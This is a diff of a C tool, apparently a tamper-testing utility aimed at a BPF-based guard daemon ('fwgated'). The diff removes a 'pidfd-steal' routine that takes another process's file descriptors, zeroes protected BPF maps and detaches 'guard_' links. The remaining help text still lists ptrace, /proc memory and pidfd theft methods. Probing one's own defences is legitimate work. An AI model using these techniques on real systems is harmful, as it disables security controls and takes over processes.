@@ -8,7 +8,6 @@
  *   bpf-clear-map NAME         delete every key of every hash map named NAME (the protected set)
  *   bpf-detach-links PREFIX    BPF_LINK_GET_FD_BY_ID + BPF_LINK_DETACH of every link whose program's name
  *                              starts with PREFIX
- *   pidfd-steal PID NAME       pidfd_getfd every fd of PID; zero the maps named NAME, detach the links
  *   steal PID HOW              take what a running process (fwgated) holds, HOW one of ptrace-attach,
  *                              ptrace-seize, proc-mem, vm-writev (a word of its memory written back),
  *                              proc-fd (reopen /proc/PID/fd/N), pidfd-getfd; then use every fd obtained
@@ -207,41 +206,6 @@ static int each_id(int next_cmd, int fd_cmd, int (*fn)(int, const char *), const
 	if (!done && !failed)
 		printf("no bpf object named %s\n", arg);
 	return done && !failed ? 0 : 1;
-}
-
-static int pidfd_steal(int pid, const char *name)
-{
-	char path[64];
-	struct dirent *de;
-	int pidfd, fd, n = 0, failed = 0, r;
-	DIR *d;
-
-	pidfd = syscall(SYS_pidfd_open, pid, 0);
-	if (pidfd < 0)
-		return refused("pidfd_open");
-	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
-	d = opendir(path);
-	if (!d)
-		return refused(path);
-	while ((de = readdir(d))) {
-		if (de->d_name[0] == '.')
-			continue;
-		fd = syscall(SYS_pidfd_getfd, pidfd, atoi(de->d_name), 0);
-		if (fd < 0) {
-			refused("pidfd_getfd");
-			failed = 1;
-			continue;
-		}
-		r = zero_map_fd(fd, name);
-		if (!r)
-			r = detach_link_fd(fd, "guard_");
-		n += r > 0;
-		failed |= r < 0;
-		close(fd);
-	}
-	closedir(d);
-	printf("%d guard objects taken from pid %d\n", n, pid);
-	return n && !failed ? 0 : 1;
 }
 
 /* ------------------------------------------------------------ steal: a running process's power */
@@ -855,8 +819,6 @@ int main(int argc, char **argv)
 		return each_id(BPF_MAP_GET_NEXT_ID, BPF_MAP_GET_FD_BY_ID, clear_map_fd, argv[2]);
 	if (!strcmp(cmd, "bpf-detach-links") && argc == 3)
 		return each_id(BPF_LINK_GET_NEXT_ID, BPF_LINK_GET_FD_BY_ID, detach_link_fd, argv[2]);
-	if (!strcmp(cmd, "pidfd-steal") && argc == 4)
-		return pidfd_steal(atoi(argv[2]), argv[3]);
 	if (!strcmp(cmd, "steal") && argc == 4)
 		return steal(atoi(argv[2]), argv[3]);
 	if (!strcmp(cmd, "hold-mmap") && argc == 4)
